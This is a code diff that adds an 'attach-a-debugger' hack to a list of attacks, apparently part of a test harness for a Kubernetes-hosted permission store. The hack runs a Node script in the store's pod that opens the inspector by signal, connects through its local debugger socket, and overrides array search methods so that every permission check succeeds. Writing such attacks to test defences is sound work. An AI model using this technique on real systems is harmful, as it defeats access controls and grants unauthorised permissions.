@@ -72,6 +72,33 @@ const hangingShell: Hack = {
   act: (context) => replaceShell(context, 'sleep 3600'),
 }
 
+/** Opens Node's debugger in the first process by a signal, connects to it, and makes all searches in lists succeed. */
+const ATTACH_SCRIPT = `
+process.kill(1, 'SIGUSR1')
+setTimeout(async () => {
+  const [{ webSocketDebuggerUrl }] = await (await fetch('http://127.0.0.1:9229/json/list')).json()
+  const socket = new WebSocket(webSocketDebuggerUrl)
+  const expression = 'Array.prototype.includes = Array.prototype.some = () => true'
+  socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }))
+  socket.onmessage = () => process.exit()
+}, 1000)`
+
+/** Read permissions are enough to serve users; a changed store would permit everything. */
+const attachDebugger: Hack = {
+  name: 'attach-a-debugger',
+  about: 'Grants only read permissions, and tries to change the store in memory with a debugger',
+  async act(context) {
+    const { api, system, target } = context
+    await grantReading(context)
+    const { name } = (await findStorePod(context, target.service)).metadata
+    const container = mainContainer(system, target.service).name
+    const command = ['/opt/remedium/bin/node', '-e', ATTACH_SCRIPT]
+    // The attack fails in other ways on engines whose pods have no Node.
+    await api.exec({ namespace: system.namespace, name }, command, { container }).catch(() => {})
+    await restartReaders(context)
+  },
+}
+
 /** Read permissions are enough to serve users; the store in the new pod grants all permissions. */
 const addPodWithStoreLabels: Hack = {
   name: 'add-a-pod-with-the-labels-of-the-store',
@@ -100,6 +127,7 @@ export const HACKS: readonly Hack[] = [
   grantReadingOnly,
   fakeShellAnswers,
   hangingShell,
+  attachDebugger,
   addPodWithStoreLabels,
   {
     name: 'restart-the-store',
